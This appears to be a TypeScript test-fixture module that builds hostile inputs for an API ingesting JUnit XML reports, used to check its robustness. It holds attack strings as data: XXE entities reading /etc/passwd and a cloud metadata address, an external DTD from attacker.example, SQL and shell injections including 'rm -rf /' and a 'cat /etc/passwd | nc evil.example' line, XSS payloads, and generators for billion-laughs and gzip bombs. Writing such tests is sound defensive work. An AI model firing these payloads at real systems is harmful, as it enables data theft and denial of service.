// Hostile inputs for the API's bad-input corpus (lib/http/hostile-input.db.test.ts):
// XML that attacks the parser, bodies that attack the readers, strings that
// attack queries and shells. Big inputs are built by functions, so they only
// cost memory while the case that needs them runs.
import { gzipSync } from "node:zlib";

/** Bytes a Request body and a Blob accept. */
export type Bytes = Uint8Array<ArrayBuffer>;

export const junitDoc = (cases: string, suite = "Hostile Suite") =>
  `<?xml version="1.0"?>\n<testsuites>\n<testsuite name="${suite}">\n${cases}\n</testsuite>\n</testsuites>\n`;

export const GOOD_JUNIT = junitDoc(
  `<testcase name="[It] ok" classname="c" time="1"/>\n<testcase name="[It] broken" classname="c" time="2"><failure message="boom">stack</failure></testcase>`,
);

/** Not well-formed; `line` is where the parser notices. */
export const MALFORMED_XML = {
  unclosedTag: { line: 5, body: `<?xml version="1.0"?>\n<testsuites>\n<testsuite name="a">\n<testcase name="x"/>\n` },
  mismatchedTag: { line: 4, body: `<?xml version="1.0"?>\n<testsuites>\n<testsuite name="a">\n<testcase name="x"></testsuite>\n</testsuites>` },
  unquotedAttribute: { line: 2, body: `<testsuites>\n<testsuite name=a/>\n</testsuites>` },
  undefinedEntity: { line: 1, body: `<testsuite name="a&nope;"/>` },
  nulCharacterReference: { line: 1, body: `<testsuite name="a&#0;"/>` },
  textAfterRoot: { line: 1, body: `<testsuite/>trailing <testsuite/>` },
};

/** Deterministic bytes that are neither XML, JSON nor gzip. */
export function garbageBytes(n = 4096): Bytes {
  return Uint8Array.from({ length: n }, (_, i) => (i * 7919 + 0x81) % 256);
}

/** A report whose bytes break UTF-8 at `offset` (the given sequence replaces nothing, it is inserted). */
export function invalidUtf8Report(bad: number[]): { bytes: Bytes; offset: number } {
  const head = [...Buffer.from(`<testsuite name="caf`)];
  return { bytes: Uint8Array.from([...head, ...bad, ...Buffer.from(`"/>`)]), offset: head.length };
}

export function utf16Report(): Bytes {
  return Uint8Array.from([0xff, 0xfe, ...Buffer.from(`<testsuite name="u"/>`, "utf16le")]);
}

export const XXE = {
  fileEntity: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite name="&x;"/>`,
  parameterEntity: `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://169.254.169.254/latest/meta-data/"> %p;]><testsuite/>`,
  externalDtd: `<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "http://attacker.example/evil.dtd"><testsuite/>`,
  harmlessDoctype: `<?xml version="1.0"?><!DOCTYPE testsuites><testsuites/>`,
};

/** The classic: ten levels of ten references each, 10^9 "lol"s if expanded. */
export function billionLaughs(levels = 10): string {
  const defs = [`<!ENTITY lol0 "lol">`];
  for (let i = 1; i < levels; i++) defs.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
  return `<?xml version="1.0"?><!DOCTYPE lolz [${defs.join("")}]><testsuite name="&lol${levels - 1};"/>`;
}

/** One big entity used many times (quadratic blowup, no nesting needed). */
export function quadraticBlowup(size = 100_000, uses = 1000): string {
  return `<?xml version="1.0"?><!DOCTYPE q [<!ENTITY a "${"a".repeat(size)}">]><testsuite name="${"&a;".repeat(uses)}"/>`;
}

export function nested(tag: string, depth: number, inner = ""): string {
  return `<${tag}>`.repeat(depth) + inner + `</${tag}>`.repeat(depth);
}

/** A well-formed report whose <system-out> inflates to `bytes`; its gzip is about a thousandth of that. */
export function gzipBomb(bytes: number): Bytes {
  const head = `<testsuite name="bomb"><testcase name="t"><system-out>`;
  const tail = `</system-out></testcase></testsuite>`;
  return gzipSync(head + "a".repeat(bytes - head.length - tail.length) + tail, { level: 9 });
}

/** XInclude is not processed: the element is just an unknown child. */
export const XINCLUDE = junitDoc(
  `<testcase name="xinclude" classname="c"><failure message="see body"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></failure></testcase>`,
);

/** Strings that break naive SQL or shell quoting; all must round-trip verbatim. */
export const METACHARACTERS: [label: string, value: string][] = [
  ["a SQL comment injection", "'; DROP TABLE runs;--"],
  ["a positional parameter", "$1"],
  ["backslashes and quotes", `\\' \\\\ "\\" \\x00 \\n`],
  ["LIKE wildcards", "100%_done_%"],
  ["a dollar-quoted statement", "$$; DELETE FROM runs; $$"],
  ["shell command substitution", "$(rm -rf /)"],
  ["backticks", "`reboot`"],
  ["pipes, redirects and background jobs", "; cat /etc/passwd | nc evil.example 1 > /dev/null &"],
  ["a bidi override and an emoji", "\u202egnp.exe \u{1f525}"],
];

export const SCRIPT_NAMES = {
  suite: `<script>alert(1)</script>`,
  name: `<script>alert("x")</script>`,
  classname: `<img src=x onerror=alert(1)>`,
  failure: `<script>document.cookie</script>`,
};

export const SCRIPT_JUNIT = junitDoc(
  `<testcase name="&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;" classname="&lt;img src=x onerror=alert(1)&gt;"><failure><![CDATA[${SCRIPT_NAMES.failure}]]></failure></testcase>`,
  "&lt;script&gt;alert(1)&lt;/script&gt;",
);

export function form(files: [filename: string, body: BlobPart][], fields: Record<string, string> = {}): FormData {
  const f = new FormData();
  for (const [k, v] of Object.entries(fields)) f.append(k, v);
  for (const [name, body] of files) f.append("junit", new Blob([body]), name);
  return f;
}

/** A FormData serialized as a fetch would send it: its bytes and Content-Type (with boundary). */
export async function formBytes(f: FormData): Promise<{ bytes: Bytes; contentType: string }> {
  const req = new Request("http://runboard.test/", { method: "POST", body: f });
  return { bytes: new Uint8Array(await req.arrayBuffer()), contentType: req.headers.get("content-type")! };
}

/** A create-run body whose `labels` nest `depth` objects deep, padded with long keys to about `bytes`. */
export function deepLabelsJson(depth: number, bytes = 0): string {
  const key = JSON.stringify("k".repeat(Math.max(1, Math.floor(bytes / depth) - 5)));
  return `{"project":"p","mode":"parallel","labels":${`{${key}:`.repeat(depth)}"v"${"}".repeat(depth)}}`;
}

/** `count` multipart files, each the same gzip of `inflated` zero bytes (about a thousandth of that on the wire). */
export function gzippedZeroParts(count: number, inflated: number): FormData {
  const gz = gzipSync(Buffer.alloc(inflated), { level: 9 });
  return form(Array.from({ length: count }, (_, i) => [`zeros-${i}.xml.gz`, gz]));
}
